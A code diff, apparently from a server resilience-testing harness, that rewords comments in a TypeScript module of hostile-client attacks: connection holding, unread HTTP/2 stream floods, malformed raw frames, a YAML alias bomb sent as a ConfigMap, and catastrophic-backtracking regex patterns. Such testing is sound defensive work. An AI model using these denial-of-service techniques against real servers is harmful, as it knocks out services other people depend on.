@@ -1,4 +1,4 @@
-// The ways in which a client can be hostile, each for as long as it is let. None of them needs more than one machine.
+// Attacks by hostile clients, each for a limited time. None of them needs more than one machine.
 
 import { Buffer } from 'node:buffer';
 import type { ClientHttp2Session } from 'node:http2';
@@ -8,7 +8,7 @@ import { connect as connectTls } from 'node:tls';
 import { type Field, frame, frames, preface, requestFields } from '../http2-client.ts';
 import { http1, http2, type Target } from './target.ts';
 
-/** Attacks until the signal; what it opened it closes. */
+/** Attacks until the signal, and closes what it opened. */
 export type Attack = (target: Target, signal: AbortSignal) => Promise<void>;
 
 const MAPS = '/api/v1/namespaces/default/configmaps';
@@ -26,10 +26,10 @@ const webSocket = head(
 );
 const json = 'Content-Type: application/json';
 
-/** Handshakes at once: they cost the attacker as much as the server, and would measure nothing else. */
+/** Concurrent handshakes: they cost the attacker as much as the server, and would dominate the measurement. */
 const TOGETHER = 10;
 
-/** Holds so many connections open, and opens others for those that the server closes. */
+/** Keeps this many connections open, and replaces those that the server closes. */
 async function hold(signal: AbortSignal, count: number, open: () => TLSSocket | ClientHttp2Session): Promise<void> {
   const held: (TLSSocket | ClientHttp2Session)[] = [];
   while (!signal.aborted) {
@@ -44,7 +44,7 @@ async function hold(signal: AbortSignal, count: number, open: () => TLSSocket | 
   for (const each of held) each.destroy();
 }
 
-/** Sends something over a connection of its own again and again, and leaves after a moment. */
+/** Repeatedly sends something over its own connection, and disconnects after a moment. */
 async function repeat(target: Target, signal: AbortSignal, bytes: (round: number) => Buffer | string): Promise<void> {
   for (let round = 0; !signal.aborted; round++) {
     const sockets = Array.from({ length: 8 }, (_, index) => {
@@ -66,7 +66,7 @@ async function pause(signal: AbortSignal, durationMs: number): Promise<void> {
   await sleep(durationMs, undefined, { signal }).catch(() => {});
 }
 
-/** Requests over HTTP/2, so many on each session, of which nothing is read. */
+/** HTTP/2 requests, several on each session, whose responses are never read. */
 function unread(path: string, { method = 'GET', whole = true, streams = 400 } = {}): Attack {
   return (target, signal) =>
     hold(signal, 2, () => {
@@ -79,7 +79,7 @@ function unread(path: string, { method = 'GET', whole = true, streams = 400 } = 
     });
 }
 
-/** Frames that no library would send, on and on. */
+/** Frames that no library would send, continuously. */
 function rawFrames(make: (round: number) => Buffer): Attack {
   return (target, signal) =>
     hold(signal, 2, () => {
@@ -96,7 +96,7 @@ function rawFrames(make: (round: number) => Buffer): Attack {
     });
 }
 
-/** Bodies that are small and cost much, sent one after the other. */
+/** Small bodies that are expensive to process, one after another. */
 function bodies(method: string, path: string, { type, body }: { type: string; body: () => string }): Attack {
   return async (target, signal) => {
     const session = http2(target);
@@ -116,7 +116,7 @@ function bodies(method: string, path: string, { type, body }: { type: string; bo
 const listField: readonly Field[] = requestFields.map(([name, value]) => [name, name === ':path' ? '/version' : value]);
 const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
 
-/** A map whose aliases double nine times over. */
+/** A map whose aliases double nine times. */
 function yamlBomb(): string {
   const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x]'];
   for (let level = 1; level < 10; level++) {
@@ -129,7 +129,7 @@ function yamlBomb(): string {
   return `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\n${lines.join('\n')}\n`;
 }
 
-/** A definition whose default has to be matched against what brings other engines of regular expressions to a halt. */
+/** A definition whose default is matched against a pattern with catastrophic backtracking in other engines. */
 function definitionOfBombs(): unknown {
   const properties = Object.fromEntries(
     ['^(a+)+$', '^(a|aa)+$', '(.*a){20}', '^([a-z]+)*x$'].map((pattern, index) => [
